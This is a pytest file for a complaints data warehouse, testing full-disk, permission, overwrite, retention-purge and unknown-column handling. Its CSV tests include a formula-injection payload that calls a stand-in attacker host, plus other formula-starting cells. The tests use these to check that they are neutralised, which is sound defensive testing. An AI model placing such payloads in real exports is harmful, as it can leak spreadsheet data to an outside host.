"""Operations review (issue 15): what a full disk, a read-only folder, a login short of a right, an
existing file or a purge does to the warehouse. Each case ends in a clear message, loses nothing and
leaves the warehouse usable the next night."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import uuid
from datetime import date
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest
from psycopg import sql as pgsql

from complaints_warehouse.warehouse import database

CLI = str(Path(sys.executable).with_name("complaints-warehouse"))


def run_cli(*args: str, **env: str) -> subprocess.CompletedProcess:
    environment = {**os.environ, **env}
    return subprocess.run([CLI, *args], capture_output=True, text=True, env=environment, timeout=300)


def login_url(target: database.Connection, user: str, password: str) -> str:
    login = user + ":" + password  # (built from parts: the secret scan looks for literal URLs)
    if target.host.startswith("/"):
        return f"postgresql://{login}@/{target.dbname}?host={target.host}&port={target.port}"
    return f"postgresql://{login}@{target.host}:{target.port}/{target.dbname}"


# --- C3: a login without CREATE on the database -------------------------------------------------------


def test_a_login_without_create_on_the_database_is_told_what_to_ask_for(settings):
    target = database.resolve(settings)  # the database exists, empty
    user = f"nocreate_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(target.conninfo, autocommit=True) as conn:
        conn.execute(pgsql.SQL("create role {} login password 'pw'").format(pgsql.Identifier(user)))
        conn.execute(
            pgsql.SQL("revoke create on database {} from public").format(pgsql.Identifier(target.dbname))
        )
    result = run_cli("db", "init", WAREHOUSE_URL=login_url(target, user, "pw"))
    output = result.stdout + result.stderr
    assert result.returncode == 2, output
    assert "Traceback" not in output
    assert f"{user} may not create schemas in the database {target.dbname}" in result.stderr
    assert f"grant create on database {target.dbname} to {user}" in result.stderr


# --- A8: no CSV cell a spreadsheet would run ----------------------------------------------------------


def test_the_annual_report_csv_neutralises_formulas_and_keeps_negative_numbers():
    from complaints_warehouse.reports import annual_report

    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    cells = [
        {
            "financial_year": "2023-24",
            "procedure": "all",
            "section": "2 service areas",
            "category": hyperlink,
            "label": hyperlink,
            "this_year": 7,
            "last_year": 9,
            "change": -2,
        },
        {
            "financial_year": "2023-24",
            "procedure": "all",
            "section": "9 payments",
            "category": "@SUM(1+1)",
            "label": "+44 20 7946 0000",
            "this_year": Decimal("-12.50"),
            "last_year": None,
            "change": "-",
        },
    ]
    rows = list(csv.DictReader(io.StringIO(annual_report.to_csv(cells, "2022-23"))))
    assert rows[0]["label"] == rows[0]["category"] == "'" + hyperlink
    assert (rows[0]["value"], rows[0]["value_2022-23"], rows[0]["change"]) == ("7", "9", "-2")
    assert (rows[1]["category"], rows[1]["label"]) == ("'@SUM(1+1)", "'+44 20 7946 0000")
    assert (rows[1]["value"], rows[1]["value_2022-23"], rows[1]["change"]) == ("-12.50", "", "'-")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text, not a number: a spreadsheet would still evaluate it
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Highways", "Highways"),
        ("a=b", "a=b"),
        (-3, "-3"),
        (Decimal("-0.5"), "-0.5"),
        (-2.25, "-2.25"),
        (None, ""),
    ],
)
def test_the_shared_csv_writer_prefixes_text_that_would_start_a_formula(value, written):
    from complaints_warehouse.outputs import csv_text

    [header, row] = list(csv.reader(io.StringIO(csv_text(["cell"], [[value]]), newline="")))
    assert header == ["cell"] and row == [written]


WRITERS = re.compile(
    r"\.write_text\(|\.write_bytes\(|csv\.(writer|DictWriter)\(|shutil\.copy|open\([^)]*['\"]w"
)


def test_every_file_the_warehouse_writes_goes_through_the_outputs_helper():
    """Reports, CSV tables, summaries, docs and exports: one writer (atomic, clear errors, safe CSV).
    The benchmarks write scratch data in temporary folders of their own."""
    package = Path(database.__file__).parent
    scratch_only = {"outputs.py", "bench.py", "national_bench.py"}
    # The embedded server's own pg_hba.conf (db serve) is edited in place: the server's user must keep
    # owning it, and it is configuration, not a file for people.
    scratch_only |= {"embedded_db.py"}
    found = [
        f"{path.relative_to(package)}:{number}: {line.strip()}"
        for path in sorted(package.rglob("*.py"))
        if path.name not in scratch_only
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert found == []


# --- C4 and C2: subject-access exports, and a full or unwritable outputs folder ----------------------


@pytest.fixture
def subject(warehouse, settings, tmp_path) -> str:
    """One complainant (reference C-77) with one case in the warehouse: a subject-access request's subject."""
    from ingestion.case_system.contract import REPRESENTATIONS
    from ingestion.copy_loader import load_file

    header = (
        "representation_id,representation_type,procedure,received_date,service_area_code,directorate,"
        "status,complainant_id,updated_at"
    )
    (tmp_path / "extract").mkdir()
    path = tmp_path / "extract" / "representations.csv"
    path.write_text(
        f"{header}\nR1,complaint,corporate,2024-01-10,ENV,Environment,open,C-77,2024-01-10T10:00:00Z\n"
    )
    with database.connect(warehouse, autocommit=True) as conn:
        load_file(conn, REPRESENTATIONS, path, pseudonym_key=settings.pseudonym_key())
    return "C-77"


def test_subject_access_refuses_to_overwrite_an_existing_file(subject, tmp_path, capsys):
    from complaints_warehouse import cli

    out = tmp_path / "export.json"
    out.write_text("someone else's notes\n")
    out.chmod(0o644)
    assert cli.main(["subject-access", subject, "--out", str(out)]) == cli.EXIT_SETTINGS
    error = capsys.readouterr().err
    assert f"{out} already exists" in error and "--force" in error and "Traceback" not in error
    assert out.read_text() == "someone else's notes\n" and out.stat().st_mode & 0o777 == 0o644


def test_subject_access_with_force_replaces_the_file_with_a_private_one(subject, tmp_path):
    from complaints_warehouse import cli

    out = tmp_path / "export.json"
    out.write_text("old\n")
    out.chmod(0o644)
    before = out.stat().st_ino
    assert cli.main(["subject-access", subject, "--out", str(out), "--force"]) == cli.EXIT_OK
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.stat().st_ino != before  # a new file put in its place, never the old one rewritten
    assert "C-77" in out.read_text()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_an_export_to_a_folder_that_cannot_be_made_is_a_clear_message(subject, tmp_path):
    blocker = tmp_path / "outputs"
    blocker.write_text("a file where the folder should be\n")
    result = run_cli("subject-access", subject, "--out", str(blocker / "export.json"))
    assert result.returncode == 2, result.stderr
    assert f"Could not write {blocker / 'export.json'}" in result.stderr
    assert "Traceback" not in result.stderr


@contextlib.contextmanager
def disk_full_after(limit: int):
    """This process may write files of ``limit`` bytes at most, as on a disk about to fill: a longer
    write fails with EFBIG (an OSError, like ENOSPC) instead of the signal the kernel sends by default."""
    previous_limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    previous_handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, previous_limit[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, previous_limit)
        signal.signal(signal.SIGXFSZ, previous_handler)


def test_a_full_disk_leaves_the_previous_export_whole_and_says_so(subject, tmp_path, capsys):
    from complaints_warehouse import cli

    out = tmp_path / "export.json"
    assert cli.main(["subject-access", subject, "--out", str(out)]) == cli.EXIT_OK
    assert out.stat().st_mode & 0o777 == 0o600  # personal data: private from the start
    previous = out.read_text()
    with disk_full_after(len(previous) // 2):
        code = cli.main(["subject-access", subject, "--out", str(out), "--force"])
    assert code == cli.EXIT_SETTINGS
    assert f"Could not write {out}: File too large" in capsys.readouterr().err
    assert out.read_text() == previous  # the old file, whole
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.json", "extract"]  # no temporary file


def test_write_atomic_on_a_full_disk_keeps_the_old_file(tmp_path):
    from complaints_warehouse.outputs import OutputNotWritten, write_atomic

    page = tmp_path / "dbt-docs.html"
    write_atomic(page, "<html>yesterday</html>")
    with disk_full_after(1000), pytest.raises(OutputNotWritten, match="Could not write .*dbt-docs.html"):
        write_atomic(page, "<html>" + "x" * 5000 + "</html>")
    assert page.read_text() == "<html>yesterday</html>"
    assert [p.name for p in tmp_path.iterdir()] == ["dbt-docs.html"]


# --- B1: a retention purge keeps the ledger reconciling -----------------------------------------------

COMPLAINANTS_HEADER = "complainant_id,given_name,family_name,date_of_birth,updated_at"


def reconcile_results(settings, target) -> dict[str, bool]:
    """Run the raw_loads_reconcile suite alone, as the nightly checkpoint runs it: {check: success}."""
    from complaints_warehouse import gx_checks, validate  # noqa: F401  (registers the suite's SQL check)

    context = validate.gx_context(settings.expectations_dir, target)
    result = context.validation_definitions.get("raw_loads_reconcile").run(result_format="COMPLETE")
    return {r.expectation_config.description: bool(r.success) for r in result.results}


@pytest.mark.slow
def test_the_ledger_reconciles_after_a_retention_purge(warehouse, settings, sql, tmp_path):
    from complaints_warehouse import retention
    from ingestion.case_system.contract import COMPLAINANTS
    from ingestion.copy_loader import load_file

    old = tmp_path / "complainants-1.csv"
    old.write_text(f"{COMPLAINANTS_HEADER}\nC-1,Ada,Lovelace,1960-02-01,2015-01-01T00:00:00Z\n")
    new = tmp_path / "complainants-2.csv"
    new.write_text(
        f"{COMPLAINANTS_HEADER}\nC-1,Ada,Lovelace,not a date,2015-02-01T00:00:00Z\n"
        "C-2,Bea,Jones,1970-03-01,2026-06-01T00:00:00Z\n"
    )
    with database.connect(warehouse, autocommit=True) as conn:
        for path in (old, new):
            load_file(conn, COMPLAINANTS, path, pseudonym_key=settings.pseudonym_key())
    assert sql("select count(*) from restricted.quarantine") == [(1,)]

    done = retention.purge_expired(warehouse, purged_by="test", years=6, today=date(2030, 1, 1))
    assert done.complainants == 1
    assert (done.rows_by_table["restricted.complainants"], done.rows_by_table["restricted.quarantine"]) == (
        1,
        1,
    )
    results = reconcile_results(settings, warehouse)
    assert results and all(results.values()), results
    assert sql(
        "select source_file like '%%-1.csv', rows_purged, quarantined_purged from audit.load_batches "
        "where status = 'loaded' order by batch_id"
    ) == [(True, 1, 0), (False, 0, 1)]


# --- C5: columns the contract does not know, from a source holding personal data ---------------------

CASES_HEADER = (
    "representation_id,representation_type,procedure,received_date,service_area_code,directorate,status,"
    "closed_date,complainant_id,updated_at,Complainant Name,Email"
)
CASES = (
    "R1,complaint,corporate,2023-01-10,ENV,Environment,closed,2023-02-01,C-1,2023-02-01T10:00:00Z,"
    "Ada Lovelace,ada@example.org\n"
    "R2,complaint,corporate,soon,ENV,Environment,closed,2023-02-01,C-1,2023-02-01T10:00:00Z,"
    "Ada Lovelace,ada@example.org\n"
    "R3,complaint,corporate,2025-06-01,ENV,Environment,open,,C-2,2025-06-01T10:00:00Z,Bea Jones,bea@example.org\n"
)
PEOPLE = (
    f"{COMPLAINANTS_HEADER}\nC-1,Ada,Lovelace,1960-02-01,2023-02-01T00:00:00Z\n"
    "C-2,Bea,Jones,1970-03-01,2025-06-01T00:00:00Z\n"
)


def load_landing(settings, target, tmp_path, unknown_columns: str | None) -> list[dict]:
    from complaints_warehouse import pipeline
    from ingestion.source_config import load_source_config

    landing = tmp_path / "landing"
    landing.mkdir()
    (landing / "representations.csv").write_text(f"{CASES_HEADER}\n{CASES}")
    (landing / "complainants.csv").write_text(PEOPLE)
    setting = f"unknown_columns: {unknown_columns}\n" if unknown_columns else ""
    config = tmp_path / "council.yml"
    config.write_text(
        f"source_system: council\ncontract: case_system\nadapter: files\nlanding: {landing}\n{setting}"
        "tables:\n  complainants: {from: complainants.csv}\n  representations: {from: representations.csv}\n"
    )
    return pipeline.step_load_source_system(
        settings, target, load_source_config(config), echo=lambda line: None
    )


def nowhere_but_restricted(sql) -> None:
    """No name or email from the unknown columns outside the restricted schema."""
    extras = sql("select _extra from raw_case_system.representations where _extra is not null")
    quarantined = [json.dumps(r) for (r,) in sql("select raw_row from audit.quarantine")]
    assert extras == []
    assert len(quarantined) == 1 and "R2" in quarantined[0]
    assert not any(
        word in quarantined[0] for word in ("Lovelace", "example.org", "complainant_name", "email")
    )


def test_unknown_columns_of_a_personal_data_source_are_dropped_by_default_with_a_warning(
    warehouse, settings, sql, tmp_path
):
    loads = {b["table"]: b for b in load_landing(settings, warehouse, tmp_path, None)}
    cases = loads["representations"]
    assert (cases["rows_in"], cases["rows_loaded"], cases["rows_quarantined"]) == (3, 2, 1)
    assert cases["extra_columns"] == ["complainant_name", "email"]
    assert "dropped unknown column(s) complainant_name, email" in cases["message"]
    nowhere_but_restricted(sql)
    assert sql("select count(*) from restricted.unknown_columns") == [(0,)]


def test_unknown_columns_kept_in_restricted_are_purged_with_the_complainant(
    warehouse, settings, sql, tmp_path
):
    from complaints_warehouse import retention, subject_access

    loads = {b["table"]: b for b in load_landing(settings, warehouse, tmp_path, "restricted")}
    assert "kept unknown column(s) in restricted.unknown_columns" in loads["representations"]["message"]
    nowhere_but_restricted(sql)
    kept = sql(
        "select u.file_row_number, u.representation_id, u.complainant_pseudonym = p.complainant_pseudonym, "
        "u.columns from restricted.unknown_columns u left join restricted.complainants p "
        "on p.complainant_id = case u.representation_id when 'R3' then 'C-2' else 'C-1' end "
        "where u.table_name = 'representations' order by 1"
    )
    assert kept == [
        (1, "R1", True, {"complainant_name": "Ada Lovelace", "email": "ada@example.org"}),
        (2, "R2", True, {"complainant_name": "Ada Lovelace", "email": "ada@example.org"}),
        (3, "R3", True, {"complainant_name": "Bea Jones", "email": "bea@example.org"}),
    ]
    # A subject-access export includes them.
    out = tmp_path / "sar.json"
    subject_access.export_subject(
        warehouse, "C-1", out, pseudonym_key=settings.pseudonym_key(), exported_by="test"
    )
    assert [r["representation_id"] for r in json.loads(out.read_text())["unknown_columns"]] == ["R1", "R2"]

    done = retention.purge_expired(warehouse, purged_by="test", years=6, today=date(2030, 1, 1))
    assert done.complainants == 1 and done.rows_by_table["restricted.unknown_columns"] == 2
    assert sql("select representation_id from restricted.unknown_columns") == [("R3",)]


def test_retention_purges_unknown_columns_an_older_release_kept_outside_restricted(
    warehouse, settings, sql, tmp_path
):
    from complaints_warehouse import retention
    from ingestion.case_system.contract import COMPLAINANTS, REPRESENTATIONS
    from ingestion.copy_loader import load_file

    (tmp_path / "representations.csv").write_text(f"{CASES_HEADER}\n{CASES}")
    (tmp_path / "complainants.csv").write_text(PEOPLE)
    key = settings.pseudonym_key()
    with database.connect(warehouse, autocommit=True) as conn:  # as the release before this one did
        load_file(conn, COMPLAINANTS, tmp_path / "complainants.csv", pseudonym_key=key)
        load_file(
            conn, REPRESENTATIONS, tmp_path / "representations.csv", pseudonym_key=key, unknown_columns="keep"
        )
    assert len(sql("select 1 from raw_case_system.representations where _extra is not null")) == 2
    retention.purge_expired(warehouse, purged_by="test", years=6, today=date(2030, 1, 1))
    assert sql(
        "select representation_id, _extra ->> 'email' from raw_case_system.representations order by 1"
    ) == [("R1", None), ("R3", "bea@example.org")]  # R3's complainant is not past retention
    (raw_row,) = sql("select raw_row from audit.quarantine")[0]
    assert raw_row["representation_id"] == "R2" and not {"complainant_name", "email"} & set(raw_row)


@pytest.mark.parametrize(
    ("setting", "problem"),
    [
        ("keep", "unknown_columns: keep would put columns the case_system contract does not know"),
        ("sometimes", "unknown_columns 'sometimes' is not one of drop, restricted, keep"),
    ],
)
def test_a_personal_data_source_may_not_keep_unknown_columns_outside_restricted(tmp_path, setting, problem):
    from ingestion.source_config import SourceConfigError, load_source_config

    config = tmp_path / "council.yml"
    config.write_text(
        f"source_system: council\ncontract: case_system\nadapter: files\nlanding: {tmp_path}\n"
        f"unknown_columns: {setting}\ntables:\n  representations: {{from: cases.csv}}\n"
    )
    with pytest.raises(SourceConfigError, match=re.escape(problem)):
        load_source_config(config)


# --- C2: a run whose outputs cannot be written fails, on record -----------------------------------------


@pytest.mark.slow
def test_a_run_that_cannot_write_its_outputs_is_recorded_failed_with_a_clear_message(settings, tmp_path, sql):
    blocker = tmp_path / "outputs"
    blocker.write_text("a file where the outputs folder should be\n")
    result = run_cli("run", WAREHOUSE_OUTPUTS_DIR=str(blocker / "nightly"))
    output = result.stdout + result.stderr
    assert result.returncode == 2, output[-3000:]
    assert "Traceback" not in output
    assert (
        f"Could not write {blocker / 'nightly'}" in result.stderr and "WAREHOUSE_OUTPUTS_DIR" in result.stderr
    )
    [(status, error, published)] = sql(
        "select status, summary ->> 'error', summary ? 'publication' from audit.pipeline_runs"
    )
    assert status == "failed" and "Could not write" in error and published  # failed writing, after publishing


# --- C1: a file that breaks past its first 64 KB, from the command line ---------------------------------


def test_a_nul_byte_past_64_kb_is_refused_with_exit_3_naming_the_line(settings, tmp_path):
    from bad_inputs import catalogue  # first: the catalogue imports the operations entries at its end
    from bad_inputs.operations_entries import nul_after_64k

    assert catalogue.BY_ID["file-nul-byte-after-64k"]

    (tmp_path / "representations.csv").write_bytes(nul_after_64k())
    result = run_cli("load", "case_system", "--from", str(tmp_path))
    assert result.returncode == 3, result.stderr
    assert (
        f"Refused {tmp_path / 'representations.csv'}: the file contains a NUL byte (line 1201)"
        in result.stderr
    )
    assert "Traceback" not in result.stderr


def test_write_atomic_keeps_the_mode_of_the_file_it_replaces(tmp_path):
    from complaints_warehouse.outputs import write_atomic

    report = tmp_path / "annual-report.csv"
    write_atomic(report, "old\n")
    report.chmod(0o640)  # an operator narrowed it
    write_atomic(report, "new\n")
    assert report.read_text() == "new\n" and report.stat().st_mode & 0o777 == 0o640
